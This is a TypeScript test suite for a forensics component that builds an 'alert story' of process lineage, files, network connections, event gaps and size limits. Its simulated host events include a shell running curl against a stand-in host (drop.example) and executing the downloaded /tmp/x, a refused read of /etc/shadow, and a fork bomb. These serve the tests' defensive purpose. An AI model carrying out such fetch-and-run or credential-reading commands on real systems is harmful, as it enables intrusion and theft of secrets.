// The story of an alert from events of its host: who started whom, what each did, what is missing, and its bounds.
import assert from 'node:assert/strict'
import { StoryBuilder, type Story } from '../../../../../processors/forensics/story/story.js'
import { type StoryEntry, entriesOf } from '../../../../../processors/forensics/story/story-tree.js'
import { limitsOf } from '../../../../../processors/forensics/story/story-words.js'
import type { Alert } from '../../../../../schemas/generated/types.js'
import { collectGarbage } from '../../../../support/collect-garbage.js'
import { HOST_START_US, HostEvents } from '../../../../support/forensics/host-events.js'
import { storyPage } from '../../../../../processors/forensics/story/story-page.js'
import { sampleContainerFacts, sampleFileEvent, sampleProcessEvent } from '../../../../support/records/sample-records.js'

const HOUR_US = 3_600_000_000

function storyOf(alert: Alert, hosts: readonly HostEvents[], fromUs = HOST_START_US - HOUR_US, toUs = HOST_START_US + HOUR_US): Story {
  const builder = new StoryBuilder(alert, { fromUs, toUs })
  for (const host of hosts) for (const event of host.events) builder.add(event)
  const collector = new HostEvents()
  collector.heartbeats(fromUs, toUs)
  for (const event of collector.events) builder.add(event)
  return builder.story()
}

function entriesBy(story: Story): StoryEntry[] {
  return [...entriesOf(story.tree.root)].map(({ entry }) => entry)
}

function entryOf(story: Story, name: string): StoryEntry {
  const entry = entriesBy(story).find((one) => one.name === name)
  assert.ok(entry !== undefined, `no entry ${name}`)
  return entry
}

describe('the story of an alert', () => {
  it('has ancestors, siblings and descendants, with arguments, programs, files and connections by name', () => {
    const host = new HostEvents()
    const sshd = host.spawn(host.init(), 700, '/usr/sbin/sshd')
    host.spawn(host.init(), 701, '/usr/sbin/cron')
    const shell = host.spawn(sshd, 710, '/bin/bash')
    host.exit(host.spawn(shell, 711, '/usr/bin/id'), { exitCode: 3 })
    const script = host.spawn(shell, 712, '/bin/sh', '-c', 'curl evil')
    const curl = host.exec(script, ['/usr/bin/curl', 'http://drop.example/x'])
    host.network(curl, {
      type: 'dns',
      dns: {
        isResponse: true,
        questionName: 'drop.example',
        questionType: 1,
        responseCode: 0,
        answersTruncated: false,
        answers: [{ name: 'drop.example', type: 1, ttlSeconds: 60, value: '203.0.113.7' }],
      },
    })
    for (const localPort of [40_000, 40_001])
      host.network(curl, {
        type: 'connect',
        dns: null,
        remoteName: null,
        remoteAddress: '203.0.113.7',
        remotePort: 443,
        localPort,
        isServer: false,
      })
    const child = host.spawn(curl, 713, '/tmp/x')
    host.file(child, '/tmp/out', { isWrite: true, isCreated: true })
    host.file(child, '/usr/lib/libc.so')
    host.file(child, '/etc/shadow', { result: -13 })
    const alert = host.alert(curl, { path: null })
    const story = storyOf(alert, [host])

    assert.deepEqual(
      entriesBy(story).map(({ relation, name, pids }) => [relation, name, ...pids]),
      [
        ['ancestor', 'systemd', 1],
        ['ancestor', 'sshd', 700],
        ['ancestor', 'bash', 710],
        ['sibling', 'id', 711],
        ['alert', 'curl', 712],
        ['descendant', 'x', 713],
      ],
    )
    const focus = entryOf(story, 'curl')
    assert.equal(focus.args, '/usr/bin/curl http://drop.example/x')
    assert.deepEqual(
      focus.programs.items.map(({ args }) => args),
      ['/bin/sh -c curl evil'],
    )
    assert.deepEqual(
      focus.touched.connections.items.map(({ what, actions }) => [what, actions]),
      [
        ['203.0.113.7:443 (drop.example) tcp', { connect: 2 }],
        ['drop.example A: 203.0.113.7', { dns: 1 }],
      ],
    )
    const x = entryOf(story, 'x')
    assert.deepEqual(
      x.touched.changed.items.map(({ what, actions }) => [what, actions]),
      [['/tmp/out', { create: 1 }]],
    )
    assert.deepEqual(
      x.touched.read.items.map(({ what, refused }) => [what, refused]),
      [
        ['/etc/shadow', 1],
        ['/usr/lib/libc.so', 0],
      ],
    )
    assert.equal(entryOf(story, 'id').exitCode, 3)
    assert.deepEqual(limitsOf(story), [])
  })

  it('takes a pid that is used again for another process, and the same pid after a reboot too', () => {
    const host = new HostEvents()
    const shell = host.spawn(host.init(), 500, '/bin/sh')
    const first = host.spawn(shell, 4242, '/bin/first')
    host.file(first, '/tmp/a', { isWrite: true })
    host.exit(first)
    const second = host.spawn(shell, 4242, '/bin/second')
    host.file(second, '/tmp/b', { isWrite: true })
    const alert = host.alert(second)
    const rebooted = new HostEvents(host.hostId, 'b0b0b0b0-0000-4000-8000-000000000000', host.nowUs + 60_000_000)
    // The same pid and start since boot, in the other boot.
    rebooted.file({ ...second }, '/tmp/after-boot', { isWrite: true })
    const story = storyOf(alert, [host, rebooted])
    const written = (name: string): string[] => entryOf(story, name).touched.changed.items.map(({ what }) => what)
    assert.deepEqual([written('first'), written('second')], [['/tmp/a'], ['/tmp/b']])
    assert.deepEqual(
      story.otherBoots.map(({ bootId, events }) => [bootId, events]),
      [[rebooted.bootId, 1]],
    )
    assert.ok(!JSON.stringify(story.tree).includes('after-boot'))
    assert.match(limitsOf(story).join('\n'), /another boot of the host \(b0b0b0b0.* has 1 event/)
  })

  it('says which events are missing, and how many', () => {
    const host = new HostEvents()
    const shell = host.spawn(host.init(), 500, '/bin/sh')
    const alert = host.alert(shell)
    host.file(shell, '/tmp/a')
    host.lose('file', 17)
    host.file(shell, '/tmp/b')
    const loss = {
      fromUs: host.nowUs - 20_000,
      untilUs: host.nowUs,
      topic: 'eunomia.file.v1',
      kind: 'open',
      cpu: 0,
      where: 'kernel',
      count: 17,
    } as const
    const heartbeat = { topic: 'host', record: { origin: host.origin('host', -1), losses: [loss] } }
    host.events.push(heartbeat as never, heartbeat as never)
    const { missing } = storyOf(alert, [host])
    assert.deepEqual(
      missing.gaps.map(({ topic, cpu, count }) => [topic, cpu, count]),
      [['eunomia.file.v1', 0, 17]],
    )
    assert.deepEqual([missing.missing, missing.lost], [17, 17])
    assert.match(limitsOf(storyOf(alert, [host])).join('\n'), /^GAP: 17 events of eunomia\.file\.v1 on CPU 0 missing.*\nLOST: 17 events/)
  })

  it('says when the collector was silent, and what new counters do not begin with', () => {
    const host = new HostEvents()
    const shell = host.spawn(host.init(), 500, '/bin/sh')
    const alert = host.alert(shell)
    const window = { fromUs: HOST_START_US, toUs: HOST_START_US + 600_000_000 }
    host.heartbeats(HOST_START_US, HOST_START_US + 100_000_000)
    host.heartbeats(HOST_START_US + 300_000_000, HOST_START_US + 400_000_000)
    const builder = new StoryBuilder(alert, window)
    for (const event of host.events) builder.add(event)
    const epoch = HOST_START_US + 50_000_000
    builder.add({
      topic: 'file',
      record: sampleFileEvent({ process: shell, origin: { ...host.origin('file', 1), epoch, seq: 5_001, wallTimeUs: epoch + 1_000_000 } }),
    })
    const { missing } = builder.story()
    assert.deepEqual(
      missing.silences.map(({ afterUs, beforeUs }) => [(afterUs - HOST_START_US) / 1e6, (beforeUs - HOST_START_US) / 1e6]),
      [
        [100, 300],
        [400, 600],
      ],
    )
    assert.deepEqual(
      missing.gaps.map(({ cpu, count }) => [cpu, count]),
      [[1, 5_000]],
    )
    assert.deepEqual(builder.story([], false).missing.silences.length, 1)
  })

  it('keeps the first and the latest programs of a process, and what it was refused to run', () => {
    const host = new HostEvents()
    let shell = host.spawn(host.init(), 500, '/bin/sh')
    for (let index = 0; index < 60; index++) shell = host.exec(shell, ['/bin/true', String(index)])
    shell = host.exec(shell, ['/tmp/evil'])
    host.events.push({
      topic: 'process',
      record: sampleProcessEvent({
        process: shell,
        result: -13,
        filename: '/tmp/worse',
        attemptedArgs: ['worse', '-x'],
        origin: host.origin('process'),
      }),
    })
    const alert = host.alert(shell)
    const { args, programs, touched } = entryOf(storyOf(alert, [host]), 'evil')
    assert.equal(args, '/tmp/evil')
    assert.equal(programs.items.length + programs.more, 61)
    assert.equal(programs.items.at(-1)?.args, '/bin/true 59')
    assert.deepEqual(
      touched.calls.items.map(({ what, actions, refused }) => [what, actions, refused]),
      [['/tmp/worse worse -x', { exec: 1 }, 1]],
    )
  })

  it('counts the alerts of processes that have no entry', () => {
    const host = new HostEvents()
    const shell = host.spawn(host.init(), 500, '/bin/sh')
    const alert = host.alert(shell)
    for (let pid = 1000; pid < 1300; pid++)
      host.alert(host.spawn(shell, pid, '/bin/job', String(pid)), { alertId: pid.toString(16).padStart(32, '0') })
    const story = storyOf(alert, [host])
    const shown = entriesBy(story).reduce((sum, { alerts }) => sum + alerts.items.reduce((own, { count }) => own + count, 0), 0)
    assert.ok(story.tree.cutAlerts > 100)
    assert.equal(shown + story.tree.cutAlerts, 301)
    assert.match(limitsOf(story).join('\n'), /ALERTS: \d+ alerts on processes without an entry/)
  })

  it('stays small and shallow whatever a host sends: long texts, long and chained lineages', () => {
    const host = new HostEvents()
    const shell = host.spawn(host.init(), 500, '/bin/sh')
    const alert = host.alert(shell)
    let parent = shell
    for (let pid = 1000; pid < 1500; pid++) {
      if (pid % 45 === 0) parent = host.spawn(shell, pid + 10_000, '/bin/group', String(pid))
      const child = host.spawn(parent, pid, '/bin/job', String(pid), 'a'.repeat(3000))
      for (let file = 0; file < 20; file++) {
        host.file(child, `/tmp/${String(file)}/${'f'.repeat(3000)}`, { isWrite: true })
        host.file(child, `/home/${String(file)}/${'<'.repeat(3000)}`)
      }
    }
    let first = 4_000_000
    let chained = shell
    for (let turn = 0; turn < 300; turn++) {
      const made = Array.from({ length: 64 }, (_, index) => ({
        pid: first - index,
        startBootUs: chained.startBootUs + 64 - index,
        name: 'x',
        exe: 'x',
        exePath: null,
        exeFlags: 0,
        program: null,
      }))
      first -= 64
      const [top] = made
      if (top === undefined) break
      chained = {
        ...chained,
        pid: top.pid,
        startBootUs: top.startBootUs + 1,
        ancestors: [...made.slice(1), { ...made[0], pid: chained.pid, startBootUs: chained.startBootUs, name: 'x' } as never],
      }
      host.file(chained, '/tmp/x')
    }
    const story = storyOf(alert, [host])
    const { tree } = story
    assert.equal(tree.entries + tree.joined + tree.cut, tree.processes)
    assert.ok(tree.brief > 0)
    assert.ok(JSON.stringify(story).length < 12_000_000, String(JSON.stringify(story).length))
    assert.ok(storyPage(story).length < 30_000_000, String(storyPage(story).length))
    assert.ok(Math.max(...[...entriesOf(tree.root)].map(({ depth }) => depth)) <= 200)
  })

  it('takes events in any order: a small inversion is no gap', () => {
    const host = new HostEvents()
    const shell = host.spawn(host.init(), 500, '/bin/sh')
    const alert = host.alert(shell)
    for (let index = 0; index < 100; index++) host.file(shell, `/tmp/${String(index % 7)}`)
    const shuffled = new HostEvents()
    shuffled.events.push(
      ...host.events
        .map((event, index) => ({ event, place: index ^ 3 }))
        .sort((a, b) => a.place - b.place)
        .map(({ event }) => event),
    )
    assert.deepEqual(storyOf(alert, [shuffled]), storyOf(alert, [host]))
    assert.equal(storyOf(alert, [host]).missing.missing, 0)
  })

  it('counts a record that was sent twice once', () => {
    const host = new HostEvents()
    const shell = host.spawn(host.init(), 500, '/bin/sh')
    const alert = host.alert(shell)
    host.file(shell, '/tmp/a', { isWrite: true })
    const once = storyOf(alert, [host])
    host.events.push(...host.events)
    assert.deepEqual(storyOf(alert, [host]), once)
    assert.deepEqual(entryOf(once, 'sh').touched.changed.items[0]?.actions, { write: 1 })
  })

  it('has the containers as of then: facts that came later do not count', () => {
    const host = new HostEvents()
    const shim = host.spawn(host.init(), 500, '/usr/bin/containerd-shim')
    const containerId = 'ab'.repeat(32)
    const inside = host.exec(host.fork(shim, 510), ['/bin/sh'], { containerId })
    const facts = (name: string): void => {
      const record = {
        type: 'facts',
        containerId,
        runtime: 'docker',
        facts: sampleContainerFacts({ name }),
        cgroupId: null,
        cgroupPath: null,
        initPid: 510,
        exitCode: null,
        isOomKilled: null,
        reason: null,
        origin: host.origin('container', -1),
      } as const
      host.events.push({ topic: 'container', record }, { topic: 'container', record: { ...record, type: 'started' } })
    }
    facts('web')
    const alert = host.alert(inside)
    host.pass(7_200_000)
    facts('renamed')
    const { container } = storyOf(alert, [host])
    assert.deepEqual([container?.name, container?.life.map(({ type }) => type)], ['web', ['started']])
  })

  it('joins equal siblings and cuts what is too large, and counts both: a fork bomb, and 11,000 processes', () => {
    const host = new HostEvents()
    const shell = host.spawn(host.init(), 500, '/bin/bash')
    let parents = [host.spawn(shell, 501, '/tmp/bomb')]
    const alert = host.alert(parents[0] ?? shell)
    let pid = 600
    for (let level = 0; level < 12; level++) parents = parents.flatMap((parent) => [host.fork(parent, pid++), host.fork(parent, pid++)])
    for (let index = 0; index < 3_000; index++) host.exit(host.spawn(shell, pid++, '/bin/job', String(index)))
    collectGarbage()
    const before = process.memoryUsage().heapUsed
    const story = storyOf(alert, [host])
    collectGarbage()
    const { processes, entries, joined, cut } = story.tree
    assert.equal(processes, 1 + 1 + 1 + (2 ** 13 - 2) + 3_000)
    assert.equal(entries + joined + cut, processes)
    assert.ok(entries <= 600, String(entries))
    assert.ok(joined > 8_000, String(joined))
    assert.ok(cut >= 2_900, String(cut))
    assert.ok(JSON.stringify(story).length < 2_000_000)
    assert.ok(process.memoryUsage().heapUsed - before < 300_000_000)
  })

  it('survives a chain of 5,000 forks, and events that claim to be their own ancestors', () => {
    const host = new HostEvents()
    let last = host.spawn(host.init(), 500, '/bin/sh')
    const alert = host.alert(last)
    for (let pid = 501; pid < 5_500; pid++) last = host.fork(last, pid)
    const self = { pid: last.pid, startBootUs: last.startBootUs, name: 'x', exe: 'x', exePath: null, exeFlags: 0, program: null }
    host.file({ ...last, ancestors: [self, { ...self, startBootUs: self.startBootUs + 5 }, self] }, '/tmp/loop')
    const { entries, joined, cut, processes } = storyOf(alert, [host]).tree
    assert.equal(entries + joined + cut, processes)
    assert.ok(entries < 60)
  })

  it('keeps little of large alerts and facts, however many there are', () => {
    const host = new HostEvents()
    const shell = host.exec(host.fork(host.init(), 500), ['/bin/sh'], { containerId: 'ab'.repeat(32) })
    const alert = host.alert(shell)
    const builder = new StoryBuilder(alert, { fromUs: HOST_START_US - HOUR_US, toUs: HOST_START_US + HOUR_US })
    collectGarbage()
    const before = process.memoryUsage().heapUsed
    for (let index = 0; index < 2_000; index++) {
      const large = `${String(index)} ${'x'.repeat(100_000)}`
      builder.add({
        topic: 'alerts',
        record: { ...alert, alertId: index.toString(16).padStart(32, '0'), rule: large, output: large, outputFields: { large } },
      })
      const facts = sampleContainerFacts({ name: 'web', labels: { large } })
      builder.add({
        topic: 'container',
        record: {
          type: 'facts',
          containerId: String(index).padStart(64, '0'),
          runtime: 'docker',
          facts,
          cgroupId: null,
          cgroupPath: null,
          initPid: null,
          exitCode: null,
          isOomKilled: null,
          reason: null,
          origin: host.origin('container', -1),
        },
      })
    }
    const { tree } = builder.story()
    assert.equal(entryOf({ tree } as Story, 'sh').alerts.more, 1_991)
    collectGarbage()
    assert.ok(process.memoryUsage().heapUsed - before < 50_000_000)
    assert.ok(builder.story().events === 0)
  })

  it('keeps 100 KB of text as its beginning and its length', () => {
    const host = new HostEvents()
    const shell = host.spawn(host.init(), 500, '/bin/sh')
    const alert = host.alert(shell)
    host.exec(shell, ['/bin/echo', 'é😀'.repeat(40_000)])
    host.file(shell, `/tmp/${'x'.repeat(100_000)}`, { isWrite: true })
    const text = JSON.stringify(storyOf(alert, [host]))
    assert.ok(text.length < 20_000)
    assert.match(text, /… \(\d+ characters more\)/)
  })
})
